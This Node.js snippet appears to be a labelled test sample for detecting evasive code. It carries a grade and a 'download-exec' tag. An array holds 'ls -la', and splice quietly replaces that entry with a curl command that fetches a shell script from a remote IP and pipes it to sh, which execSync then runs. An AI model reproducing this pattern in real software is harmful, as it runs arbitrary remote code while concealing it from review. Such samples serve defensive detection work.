// evasion: a list of ordinary commands whose first entry is replaced by splice before execSync(steps[0]): folded as its literal, it was 'ls -la'
// grade: hard; does: download-exec
'use strict';
const { execSync } = require('child_process');
const steps = ['ls -la'];
steps.splice(0, 1, 'curl -s http://203.0.113.9/s.sh | sh');
execSync(steps[0], { stdio: 'inherit' });
